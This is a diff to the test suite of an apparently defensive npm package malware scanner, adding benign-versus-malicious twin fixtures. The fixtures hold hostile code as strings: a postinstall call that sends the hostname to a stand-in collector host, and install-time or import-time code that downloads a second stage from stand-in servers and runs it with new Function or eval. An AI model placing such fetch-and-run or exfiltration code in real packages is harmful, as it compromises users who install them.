@@ -32,7 +32,7 @@ describe('calibration: one finding is malicious only when it is itself an eviden
   const others: Signal[] = [
     'install-script', 'install-inline-code', 'native-build', 'source:env-bulk', 'source:env-secret', 'source:credential-file', 'source:fingerprint',
     'sink:network', 'sink:dns', 'sink:exfil-endpoint', 'sink:recon-endpoint', 'sink:file-write-home', 'exec', 'exec:bundled-binary',
-    'dynamic-code', 'dynamic-code:decoded', 'dynamic-require', 'sabotage', 'obfuscation', 'unpack-hazard', 'analysis-gap', 'ai-key-scan', 'prompt-injection',
+    'dynamic-code', 'dynamic-code:decoded', 'dynamic-code:visible', 'dynamic-require', 'sabotage', 'obfuscation', 'unpack-hazard', 'analysis-gap', 'ai-key-scan', 'prompt-injection',
     'registry:typosquat', 'registry:dependency-confusion', 'registry:new-install-script', 'registry:lost-provenance', 'registry:manifest-confusion',
     'registry:new-publisher', 'registry:new-package', 'registry:unchanged',
   ];
@@ -115,6 +115,44 @@ describe('verdicts: fixed false positives and their malicious twins', () => {
       'package.json': manifest({ name: 'edge-runtime-bin', version: '1.9999.0', scripts: { postinstall: 'node install.js' } }),
       'install.js': "require('https').get('https://collector.invalid/?h=' + require('os').hostname());",
     });
+    expect(r.verdict).toBe('malicious');
+  });
+});
+
+// nx-like: a build tool's postinstall loads a module that keeps `import()` out of the TypeScript
+// CommonJS transform with a constant Function body, and spawns its formatter.
+describe('verdicts: constant code for Function at install is read, not hidden', () => {
+  const pkg = (helper: string) => ({
+    'package.json': manifest({ name: 'mono-tool', version: '3.1.0', scripts: { postinstall: 'node post-install.js' } }),
+    'post-install.js': "require('./formatters.js');",
+    'formatters.js': [
+      "const { spawnSync } = require('child_process');",
+      helper,
+      "exports.format = (files) => spawnSync('oxfmt', files, { stdio: 'inherit' });",
+    ].join('\n'),
+  });
+
+  test('a constant `return import(specifier)` body next to a process call at install is clean', () => {
+    const r = scanFiles(pkg("const dynamicImport = new Function('specifier', 'return import(specifier)');\nexports.load = (m) => dynamicImport(m);"));
+    expect(r.verdict).toBe('clean');
+  });
+
+  test('its twin, running downloaded text as code at install next to a process call, is malicious', () => {
+    const r = scanFiles(
+      pkg("require('https').get('https://payload.invalid/stage2', (res) => { let d = ''; res.on('data', (c) => (d += c)); res.on('end', () => new Function('require', d)(require)); });"),
+    );
+    expect(r.verdict).toBe('malicious');
+  });
+});
+
+describe('verdicts: a loader runs what its caller fetches; a second stage runs what the package fetches', () => {
+  test('a SystemJS-like loader (fetch(url) of its caller, then eval) is clean', () => {
+    const r = scanFiles({ 'package.json': manifest({ name: 'tiny-loader', version: '2.0.0', main: 'index.js' }), 'index.js': 'exports.load = (url) => fetch(url).then((r) => r.text()).then((src) => (0, eval)(src));' });
+    expect(r.verdict).toBe('clean');
+  });
+
+  test('its twin, running code from a hard-coded server on import, is malicious', () => {
+    const r = scanFiles({ 'package.json': manifest({ name: 'tiny-loader', version: '2.0.1', main: 'index.js' }), 'index.js': "fetch('https://cdn-assets.invalid/v2/init').then((r) => r.text()).then((src) => (0, eval)(src));" });
     expect(r.verdict).toBe('malicious');
   });
 });
